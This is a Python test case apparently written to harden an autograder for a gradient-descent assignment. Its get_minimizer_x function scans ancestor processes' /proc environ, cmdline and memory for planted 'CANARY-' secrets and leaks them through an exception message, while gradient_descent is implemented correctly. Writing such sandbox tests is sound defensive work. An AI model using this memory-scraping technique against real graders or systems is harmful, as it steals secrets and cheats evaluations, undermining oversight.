# HOSTILE CASE: read the grader's memory, environment and command line through /proc.
# Assignment: ps1_gradient_descent
# Tries: for its parent and every other ancestor it can see: reads /proc/<pid>/environ, cmdline and
#        maps, then the readable regions of /proc/<pid>/mem (needs ptrace rights), looking for the
#        "CANARY-" secrets the test planted and for the reference's source; raises an exception carrying
#        what it found.
# Honest: gradient_descent is correct (may earn full marks); get_minimizer_x must earn nothing and no
#         canary may appear in the report.
# Bounded: at most 64 MB of memory read in total, 8 ancestors, once per process.
import os
import re

import numpy as np

_done = []


def _ancestors():
    pid, seen = os.getpid(), []
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
        seen.append(pid)
    return seen


def _scan():
    found, budget = [], 64 << 20
    for pid in _ancestors():
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read(1 << 20)
                found.append(f"{pid}/{name}: {data[:300]!r}")
                found += [m.decode("ascii", "replace") for m in re.findall(rb"CANARY-[A-Z]+-[0-9a-f]{16}", data)]
            except OSError as err:
                found.append(f"{pid}/{name}: {err.strerror}")
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    parts = line.split()
                    if "r" not in parts[1] or budget <= 0:
                        continue
                    lo, hi = (int(x, 16) for x in parts[0].split("-"))
                    size = min(hi - lo, budget, 8 << 20)
                    try:
                        mem.seek(lo)
                        data = mem.read(size)
                    except (OSError, OverflowError, ValueError):
                        continue
                    budget -= size
                    found += [m.decode("ascii", "replace")
                              for m in re.findall(rb"CANARY-[A-Z]+-[0-9a-f]{16}", data)]
        except OSError as err:
            found.append(f"{pid}/mem: {err.strerror}")
    return found


def get_minimizer_x(iterations, learning_rate, init):
    if not _done:
        found = _scan()
        _done.append(sorted(found, key=lambda item: not item.startswith("CANARY-")))
    raise RuntimeError("parent memory: " + " | ".join(_done[0])[:5000])


def gradient_descent(grad_fn, x0, learning_rate, iterations):
    x = np.array(x0, dtype=float)
    for _ in range(iterations):
        x = x - learning_rate * np.asarray(grad_fn(x), dtype=float)
    return x
